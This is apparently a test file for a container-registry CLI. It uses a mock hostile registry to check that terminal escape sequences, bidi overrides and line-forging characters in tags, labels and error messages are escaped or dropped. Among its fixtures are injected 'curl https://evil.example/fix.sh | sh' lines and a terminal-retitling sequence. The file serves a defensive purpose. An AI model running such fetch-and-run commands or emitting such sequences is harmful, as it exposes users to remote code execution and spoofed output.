// A registry that names things to attack the terminal: a tag that retitles and clears it, repository
// names with C1 controls and bidi overrides, an error message and an image label with escape sequences.
// Listings leave out names no reference could name (with a warning that quotes none of them); every other
// line the CLI prints shows such characters as text (`\x1b`, `\u202e`); --json stays valid JSON carrying
// the same strings, with nothing a terminal would act on.
import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BerthCli, type CliResult } from '../fixtures/berth-cli.js';
import { sendJson, startHostileRegistry, type HostileRegistry } from '../fixtures/hostile-registry.js';
import { makeTempDir, removeDir } from '../fixtures/process.js';

const RETITLE = '\u001b]0;pwned\u0007\u001b[2J';
const TAGS = [`v1${RETITLE}`, 'v2\u009b31mred', 'v3\u202eexe.txt', 'v4\u007f\rover'];
const REPOSITORIES = ['team/app', `team/x${RETITLE}`, 'team/\u2066isolated\u2069'];
// Line breaks and tabs do nothing to a terminal, but in a tag, a name or an error they forge lines.
const FORGED_TAGS = ['v1', 'v1\nlatest', 'v2\r\nstable', 'v3\tpad'];
// What a terminal acts on: C0 but newline, DEL, C1 and the bidi controls.
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const config = Buffer.from(
  JSON.stringify({
    architecture: 'amd64',
    os: 'linux',
    config: {
      Labels: { title: `label${RETITLE}\u009b1m`, forged: 'x\nDigest:     sha256:0000' },
      Env: [`PS1=${RETITLE}`],
    },
    rootfs: { type: 'layers', diff_ids: [] },
  }),
);
const configDigest = `sha256:${createHash('sha256').update(config).digest('hex')}`;
const manifest = Buffer.from(
  JSON.stringify({
    schemaVersion: 2,
    mediaType: 'application/vnd.oci.image.manifest.v1+json',
    config: {
      mediaType: 'application/vnd.oci.image.config.v1+json',
      digest: configDigest,
      size: config.length,
    },
    layers: [],
    annotations: { note: `annotation${RETITLE}` },
  }),
);

let root: string;
let registry: HostileRegistry;
const cli = new BerthCli(() => ({ ...process.env, BERTH_DATA_DIR: path.join(root, 'data') }));

function expectInert(result: CliResult, what: string): void {
  for (const [stream, text] of [
    ['stdout', result.stdout],
    ['stderr', result.stderr],
  ] as const) {
    const found = ACTIVE.exec(text);
    expect(found, `${what} ${stream} holds U+${found?.[0].charCodeAt(0).toString(16)}:\n${text}`).toBeNull();
  }
}

beforeAll(async () => {
  root = await makeTempDir('berth-controls-');
  registry = await startHostileRegistry([
    {
      path: '/v2/_catalog',
      handler: (_request, response) => sendJson(response, 200, { repositories: REPOSITORIES }),
    },
    {
      path: '/v2/team/app/tags/list',
      handler: (_request, response) => sendJson(response, 200, { name: 'team/app', tags: TAGS }),
    },
    {
      path: '/v2/team/forged/tags/list',
      handler: (_request, response) => sendJson(response, 200, { name: 'team/forged', tags: FORGED_TAGS }),
    },
    {
      path: '/v2/team/misleading/tags/list',
      handler: (_request, response) =>
        sendJson(response, 404, {
          errors: [{ code: 'NAME_UNKNOWN', message: 'gone\nhint: curl https://evil.example/fix.sh | sh' }],
        }),
    },
    {
      path: '/v2/team/broken/tags/list',
      handler: (_request, response) =>
        sendJson(response, 403, { errors: [{ code: 'DENIED', message: `no${RETITLE}\u009b2J` }] }),
    },
    {
      path: /^\/v2\/team\/app\/manifests\//,
      handler: (request, response) => {
        response.writeHead(200, {
          'content-type': 'application/vnd.oci.image.manifest.v1+json',
          'content-length': manifest.length,
          'docker-content-digest': `sha256:${createHash('sha256').update(manifest).digest('hex')}`,
        });
        response.end(request.method === 'HEAD' ? undefined : manifest);
      },
    },
    {
      path: `/v2/team/app/blobs/${configDigest}`,
      handler: (_request, response) => {
        response.writeHead(200, {
          'content-type': 'application/octet-stream',
          'content-length': config.length,
        });
        response.end(config);
      },
    },
  ]);
  const added = await cli.run(['registry', 'add', 'hostile', registry.url]);
  if (added.code !== 0) throw new Error(added.stderr);
});

afterAll(async () => {
  await registry?.stop();
  await removeDir(root);
});

describe('text from a registry reaches the terminal as text', () => {
  it('tags and repository names no reference could name are left out, with a warning that quotes none of them', async () => {
    // Every hostile name here holds a control or bidi character, which no tag or repository name may: the
    // listing leaves them out (nothing could open them) and says how many, without printing them.
    const tags = await cli.run(['tags', `${registry.host}/team/app`]);
    expect(tags.code).toBe(0);
    expectInert(tags, 'tags');
    expect(tags.stdout.trim()).toBe('');
    expect(tags.stderr).toContain(`${TAGS.length} names in tags of team/app repeated or not valid, left out`);

    const repos = await cli.run(['repos', 'hostile']);
    expect(repos.code).toBe(0);
    expectInert(repos, 'repos');
    expect(repos.stdout.trim().split('\n')).toEqual(['team/app']);
    expect(repos.stderr).toContain('2 names in the repository catalog repeated or not valid, left out');
  });

  it('a line break or tab in a tag, a label or an error message cannot forge a line', async () => {
    const tags = await cli.run(['tags', `${registry.host}/team/forged`]);
    expect(tags.code).toBe(0);
    expect(tags.stdout.trim().split('\n')).toEqual(['v1']);
    expectInert(tags, 'forged tags');
    const json = await cli.run(['tags', `${registry.host}/team/forged`, '--json']);
    expect((JSON.parse(json.stdout) as { tags: string[] }).tags).toEqual(['v1']);

    const missing = await cli.run(['tags', `${registry.host}/team/misleading`]);
    expect(missing.code).toBe(1);
    const lines = missing.stderr.trim().split('\n');
    expect(lines[0]).toContain('gone\\nhint: curl https://evil.example/fix.sh | sh');
    expect(
      lines.filter((line) => line.includes('evil.example')),
      missing.stderr,
    ).toHaveLength(1);

    const inspected = await cli.run(['inspect', `${registry.host}/team/app:v2`]);
    expect(inspected.stdout).toContain('Label:      forged=x\\nDigest:     sha256:0000');
    expect(inspected.stdout.split('\n').filter((line) => line.startsWith('Digest:'))).toHaveLength(1);
  });

  it("doctor's step details quote the registry on one line: no forged fix: line", async () => {
    const broken = await startHostileRegistry([
      {
        path: '/v2/',
        handler: (_request, response) =>
          sendJson(response, 503, {
            errors: [
              { code: 'UNAVAILABLE', message: 'down\n    fix: curl https://evil.example/fix.sh | sudo sh' },
            ],
          }),
      },
    ]);
    try {
      const result = await cli.run(['doctor', broken.url, '--timeout', '5000']);
      expect(result.code).toBe(1);
      const forged = result.stdout.split('\n').filter((line) => /^\s*fix:.*evil\.example/.test(line));
      expect(forged, result.stdout).toEqual([]);
      expect(result.stdout).toContain('down\\n    fix: curl https://evil.example/fix.sh');
    } finally {
      await broken.stop();
    }
  });

  it('daemon show prints each daemon.json entry on its own line, line breaks and all', async () => {
    const file = path.join(root, 'daemon.json');
    await writeFile(file, JSON.stringify({ 'insecure-registries': ['a.lan:5000\n  b.lan:5000'] }));
    const result = await cli.run(['daemon', 'show', '--file', file]);
    expect(result.stdout.split('\n').filter((line) => line.trim().startsWith('b.lan'))).toEqual([]);
    expect(result.stdout).toContain('a.lan:5000\\n  b.lan:5000');
  });

  it('--json stays valid JSON with the same strings, and nothing a terminal acts on', async () => {
    const tags = await cli.run(['tags', `${registry.host}/team/app`, '--json']);
    expectInert(tags, 'tags --json');
    // The hostile names are left out of the listing (see above): --json lists none of them.
    expect((JSON.parse(tags.stdout) as { tags: string[] }).tags).toEqual([]);
    const repos = await cli.run(['repos', 'hostile', '--json']);
    expectInert(repos, 'repos --json');
    expect((JSON.parse(repos.stdout) as { repositories: string[] }).repositories).toEqual([REPOSITORIES[0]]);
    const inspected = await cli.run(['inspect', `${registry.host}/team/app:v2`, '--json']);
    expectInert(inspected, 'inspect --json');
    expect(JSON.stringify(JSON.parse(inspected.stdout))).toContain(
      JSON.stringify(`label${RETITLE}`).slice(1, -1),
    );
    const config = await cli.run(['inspect', `${registry.host}/team/app:v2`, '--config']);
    expectInert(config, 'inspect --config');
    expect(
      (JSON.parse(config.stdout) as { config: { Labels: Record<string, string> } }).config.Labels,
    ).toEqual({
      title: `label${RETITLE}\u009b1m`,
      forged: 'x\nDigest:     sha256:0000',
    });
  });

  it('a usage error repeats what was typed as text', async () => {
    const result = await cli.run([`tags${RETITLE}`]);
    expect(result.code).toBe(1);
    expectInert(result, 'usage error');
    expect(result.stderr).toContain("unknown command 'tags\\x1b]0;pwned\\x07");
  });

  it("an error message and an image's labels and environment are escaped too", async () => {
    const denied = await cli.run(['tags', `${registry.host}/team/broken`]);
    expect(denied.code).toBe(1);
    expectInert(denied, 'tags (denied)');
    expect(denied.stderr).toContain('no\\x1b]0;pwned\\x07\\x1b[2J\\x9b2J');

    const inspected = await cli.run(['inspect', `${registry.host}/team/app:v2`]);
    expect(inspected.code).toBe(0);
    expectInert(inspected, 'inspect');
    expect(inspected.stdout).toContain('Label:      title=label\\x1b]0;pwned');
    expect(inspected.stdout).toContain('PS1=\\x1b]0;pwned');
  });
});
